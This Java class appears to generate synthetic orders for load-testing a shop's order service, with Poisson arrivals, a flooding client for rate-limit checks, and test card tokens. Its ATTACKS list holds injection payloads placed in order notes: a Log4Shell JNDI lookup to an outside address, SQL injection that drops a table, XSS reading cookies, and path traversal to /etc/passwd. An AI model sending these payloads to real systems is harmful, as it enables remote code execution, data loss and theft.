package dev.signals.example.orders.load;

import dev.signals.example.orders.services.Catalog;
import dev.signals.example.orders.services.Item;
import dev.signals.example.orders.services.UserDirectory;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;

/**
 * Makes the orders of a run from one seeded {@link Random}, in order: arrival times (a Poisson
 * process at the plan's rate), users, items, client addresses, and now and then an attack in
 * the note. During the peak half the orders come from one client, which the order service's
 * rate limit then refuses. Not thread-safe: one generator thread draws them all.
 */
public final class OrderRequests {

    /** The client that floods the shop during the peak. */
    public static final String HOT_CLIENT = "203.0.113.7";

    private static final List<String> ATTACKS = List.of(
            "${jndi:ldap://203.0.113.66/a}",
            "'; DROP TABLE orders; --",
            "<script>alert(document.cookie)</script>",
            "../../../../etc/passwd",
            "1' OR '1'='1");
    private static final List<String> NOTES = List.of("leave at the door", "gift wrap, please", "call on arrival");
    private static final List<String> CARDS = List.of("tok_visa_4242", "tok_mastercard_4444", "tok_amex_0005");

    private final LoadPlan plan;
    private final Random random;
    private long count;
    private long offsetNanos;

    public OrderRequests(LoadPlan plan) {
        this.plan = plan;
        this.random = new Random(plan.seed());
    }

    /** The next order, or {@code null} when the plan admits no more. */
    public OrderRequest next() {
        double rate = plan.rateAt(Duration.ofNanos(offsetNanos));
        offsetNanos += Math.round(-Math.log(1 - random.nextDouble()) / rate * 1e9);
        Duration offset = Duration.ofNanos(offsetNanos);
        if (!plan.admits(offset, count + 1)) {
            return null;
        }
        count++;
        boolean peak = plan.inPeak(offset);
        String orderId = plan.idPrefix() + String.format(Locale.ROOT, "%05d", count);
        String userId = UserDirectory.idOf(1 + random.nextInt(UserDirectory.SIZE));
        int lines = 1 + (random.nextDouble() < 0.35 ? 1 : 0) + (random.nextDouble() < 0.15 ? 1 : 0);
        Map<String, Integer> quantities = new LinkedHashMap<>();
        for (int i = 0; i < lines; i++) {
            quantities.merge(Catalog.pick(random).sku(), random.nextDouble() < 0.8 ? 1 : 2, Integer::sum);
        }
        List<Item> items = new ArrayList<>();
        quantities.forEach((sku, qty) -> items.add(new Item(sku, qty)));
        String client = random.nextDouble() < (peak ? 0.5 : 0.02) ? HOT_CLIENT
                : "198.51.100." + (1 + random.nextInt(60));
        String card = CARDS.get(random.nextInt(CARDS.size()));
        double n = random.nextDouble();
        String note = n < 0.015 ? ATTACKS.get(random.nextInt(ATTACKS.size()))
                : n < 0.15 ? NOTES.get(random.nextInt(NOTES.size())) : null;
        return new OrderRequest(orderId, offset, userId, items, client, card, note);
    }
}
